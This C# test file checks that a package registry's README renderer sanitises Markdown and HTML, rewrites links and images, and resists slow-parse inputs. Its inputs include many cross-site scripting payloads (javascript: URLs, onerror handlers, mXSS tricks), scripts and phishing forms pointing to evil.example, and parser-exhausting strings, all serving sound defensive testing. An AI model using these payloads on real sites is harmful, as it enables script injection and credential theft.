using System.Diagnostics;
using System.Net;
using System.Text.RegularExpressions;
using Registry.Web.Packages;
using Registry.Web.Packages.Readmes;
using Xunit;

namespace Registry.Unit.Packages;

/// <summary>A README is what a stranger wrote: it is shown, and does nothing.</summary>
public sealed partial class ReadmeTests
{
    [Theory]
    [InlineData("Hello **you**", "<p>Hello <strong>you</strong></p>")]
    [InlineData("# Title", "<h3 class=\"level-1\" id=\"readme-title\">Title</h3>")]
    [InlineData("###### Deep", "<h6 class=\"level-6\" id=\"readme-deep\">Deep</h6>")]
    [InlineData("[x](https://example.com/a?b=1&c=2)", "<p><a href=\"https://example.com/a?b=1&amp;c=2\" rel=\"nofollow noopener ugc\">x</a></p>")]
    [InlineData("[x](#the-end)", "<p><a href=\"/p?tab=readme#readme-the-end\" rel=\"nofollow noopener ugc\">x</a></p>")]
    [InlineData("[x](./docs/../values.yaml#l3)", "<p><a href=\"/p?tab=code&amp;file=values.yaml\" rel=\"nofollow noopener ugc\">x</a></p>")]
    [InlineData("[x](a%20b/c.md)", "<p><a href=\"/p?tab=code&amp;file=a%20b%2Fc.md\" rel=\"nofollow noopener ugc\">x</a></p>")]
    [InlineData("- [x] done", "<ul><li><span class=\"task\">☑</span> done</li></ul>")]
    [InlineData("<p align=\"center\" style=\"color:red\" onclick=\"x()\">hi</p>", "<p class=\"to-center\">hi</p>")]
    [InlineData("<details open><summary>more</summary>text</details>", "<details open><summary>more</summary>text</details>")]
    public void What_is_meant_well_is_kept(string markdown, string html) => Assert.Equal(html, Shown(markdown));

    [Theory]
    [InlineData("<script>alert(1)</script>x")]
    [InlineData("<ScRiPt src=//evil.example/x.js></sCrIpT>")]
    [InlineData("<img src=x onerror=alert(1)>")]
    [InlineData("<svg><script>alert(1)</script><a xlink:href=\"javascript:alert(1)\">x</a></svg>")]
    [InlineData("<svg><style><img src=x onerror=alert(1)></style></svg>")]
    [InlineData("<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">")]
    [InlineData("<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>")]
    [InlineData("<object data=\"javascript:alert(1)\"></object><embed src=\"javascript:alert(1)\">")]
    [InlineData("<form action=\"https://evil.example\"><input name=password><button>Sign in</button></form>")]
    [InlineData("<style>*{display:none}</style><link rel=stylesheet href=//evil.example><meta http-equiv=refresh content=\"0;url=//evil.example\"><base href=//evil.example>")]
    [InlineData("<div style=\"position:fixed;inset:0\" id=main class=notice onmouseover=alert(1)>x</div>")]
    [InlineData("[x](javascript:alert(1))")]
    [InlineData("[x](JaVaScRiPt:alert(1))")]
    [InlineData("<a href=\"java\tscript:alert(1)\">x</a>")]
    [InlineData("<a href=\" &#14; javascript:alert(1)\">x</a>")]
    [InlineData("<a href=\"&#x6A;avascript&colon;alert(1)\">x</a>")]
    [InlineData("[x](vbscript:msgbox(1)) [y](data:text/html,<script>alert(1)</script>) [z](file:///etc/passwd)")]
    [InlineData("[x](//evil.example/a) <a href=\"\\\\evil.example\">y</a> <a href=\"/\\evil.example\">z</a>")]
    [InlineData("![x](data:image/svg+xml,<svg onload=alert(1)>) ![y](javascript:alert(1))")]
    [InlineData("<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">")]
    [InlineData("<template><script>alert(1)</script></template><xmp><script></xmp>")]
    [InlineData("\u0000<scr\u0000ipt>alert(1)</scr\u0000ipt>")]
    [InlineData("<a href=\"https://example.com\" target=_blank ping=//evil.example onfocus=alert(1) autofocus>x</a>")]
    public void What_is_meant_ill_does_nothing(string markdown)
    {
        var html = Shown(markdown);

        foreach (var tag in Tag().Matches(html).Select(match => match.Value))
        {
            Assert.Matches(Harmless(), tag);
        }
    }

    // Each kept the parser busy for a minute, or filled more memory than there is.
    [Theory]
    [InlineData("|a", 2_000, "|-", "\n|b|")]
    [InlineData("|a", 2_000, "|-", "\r|b|")]
    [InlineData("[a](", 30_000, "", "")]
    [InlineData("a<?", 30_000, "", "")]
    [InlineData("*a **b ", 10_000, "", "")]
    public void What_would_be_too_much_work_stays_plain(string first, int count, string second, string more)
    {
        var text = $"{Times(first)}\n{Times(second)}{Times(more)}";

        Assert.Equal($"<pre class=\"plain\">{WebUtility.HtmlEncode(text)}</pre>", Readme.Render(new PackageText("README.md", text), Place()).Html);

        string Times(string part) => string.Concat(Enumerable.Repeat(part, count));
    }

    [Fact]
    public void A_long_table_and_a_long_list_are_shown_as_such()
    {
        var text = $"|a|b|c|\n|-|-|-|\n{string.Concat(Enumerable.Repeat("|1|[x](y)|*z*|\n", 2_000))}\n{string.Concat(Enumerable.Repeat("- [x](y) *z*\n", 2_000))}";

        var html = Readme.Render(new PackageText("README.md", text), Place()).Html;

        Assert.Equal((2_001, 2_000), (html.Split("<tr>").Length - 1, html.Split("<li>").Length - 1));
    }

    [Fact]
    public void Pictures_from_elsewhere_are_words_until_somebody_asks_for_them()
    {
        const string Text = "![build](https://ci.example/badge.svg) ![mine](logo.png)";

        var closed = Readme.Render(new PackageText("README.md", Text), Place());
        var open = Readme.Render(new PackageText("README.md", Text), Place() with { ShowsForeignImages = true });

        Assert.Equal(("<p><span class=\"picture\">build</span> <span class=\"picture\">mine</span></p>", 1), (closed.Html.Trim(), closed.ForeignImages));
        Assert.Equal(
            "<p><img loading=\"lazy\" referrerpolicy=\"no-referrer\" src=\"https://ci.example/badge.svg\" alt=\"build\"> <span class=\"picture\">mine</span></p>", open.Html.Trim());
    }

    [Fact]
    public void Pictures_of_the_package_are_shown_where_they_are_there()
    {
        const string Text = "![one](./docs/a%20b.png) <img src=\"/docs/../two.svg\" width=\"40\" height=\"9999\"> ![gone](gone.png?raw=true#x) ![out](../out.png) ![off](//evil.example/a.png)";

        var wanted = Readme.Render(new PackageText("README.md", Text), Place());
        var shown = Readme.Render(new PackageText("README.md", Text), Place() with { OwnImages = new HashSet<string> { "docs/a b.png", "two.svg" } });

        Assert.Equal(["docs/a b.png", "two.svg", "gone.png"], wanted.OwnImages);
        Assert.Equal(0, wanted.ForeignImages);
        Assert.DoesNotContain("<img", wanted.Html, StringComparison.Ordinal);
        Assert.Equal(
            "<p><img loading=\"lazy\" referrerpolicy=\"no-referrer\" src=\"/p/picture?path=docs%2Fa%20b.png\" alt=\"one\"> "
            + "<img loading=\"lazy\" referrerpolicy=\"no-referrer\" src=\"/p/picture?path=two.svg\" alt=\"\" width=\"40\"> "
            + "<span class=\"picture\">gone</span> <span class=\"picture\">out</span> <span class=\"picture\">off</span></p>",
            shown.Html.Trim());
    }

    [Fact]
    public void Headings_of_one_name_get_anchors_of_their_own()
    {
        var readme = Readme.Render(new PackageText("README.md", "# A\n# A\n# A 1\n# A"), Place());

        Assert.Equal(["readme-a", "readme-a-1", "readme-a-1-1", "readme-a-2"], readme.Headings.Select(heading => heading.Anchor));
    }

    [Fact]
    public void What_is_no_Markdown_or_too_long_is_plain_text()
    {
        Assert.Equal("<pre class=\"plain\"># &lt;b&gt;x</pre>", Readme.Render(new PackageText("README.txt", "# <b>x"), Place()).Html);
        Assert.StartsWith("<pre class=\"plain\">", Readme.Render(new PackageText("README.md", new string('#', 600_000)), Place()).Html, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("<b>", 40_000)]
    [InlineData("<b><p>", 20_000)]
    [InlineData("<a><table>", 10_000)]
    [InlineData("<div>", 50_000)]
    [InlineData("> ", 100_000)]
    [InlineData("# x\n", 60_000)]
    [InlineData("[", 50_000)]
    [InlineData("**", 50_000)]
    [InlineData("- ", 20_000)]
    [InlineData("|a|b|\n|-|-|\n", 10_000)]
    [InlineData("&#x202E;", 30_000)]
    [InlineData("x", 200_000)]
    public void A_hostile_text_takes_no_time_to_speak_of(string part, int times)
    {
        var watch = Stopwatch.StartNew();

        var html = Shown(string.Concat(Enumerable.Repeat(part, times)));

        Assert.True(watch.Elapsed < TimeSpan.FromSeconds(10), $"It took {watch.Elapsed}.");
        Assert.True(html.Length < 20_000_000, $"It became {html.Length} characters.");
    }

    private static string Shown(string markdown) =>
        LineBreaks().Replace(Readme.Render(new PackageText("README.md", markdown), Place()).Html, "").Trim();

    private static ReadmePlace Place() => new("/p?tab=readme", "/p?tab=code&file=", "/p/picture?path=", ShowsForeignImages: false);

    [GeneratedRegex("<[^>]*>", RegexOptions.ExplicitCapture, 10_000)]
    private static partial Regex Tag();

    // What the page's own writer writes, and nothing more.
    [GeneratedRegex("""^</?[a-z0-9]+( class="(to-(left|center|right)|level-\d|task|picture|plain)")?( id="readme-[^"<>]*")?( href="(https?:|mailto:|/p\?tab=)[^"<>]*" rel="nofollow noopener ugc")?( tabindex="0")?( open)?>$""", RegexOptions.ExplicitCapture, 10_000)]
    private static partial Regex Harmless();

    [GeneratedRegex("\n(?=<|$)|(?<=>)\n", RegexOptions.ExplicitCapture, 10_000)]
    private static partial Regex LineBreaks();
}
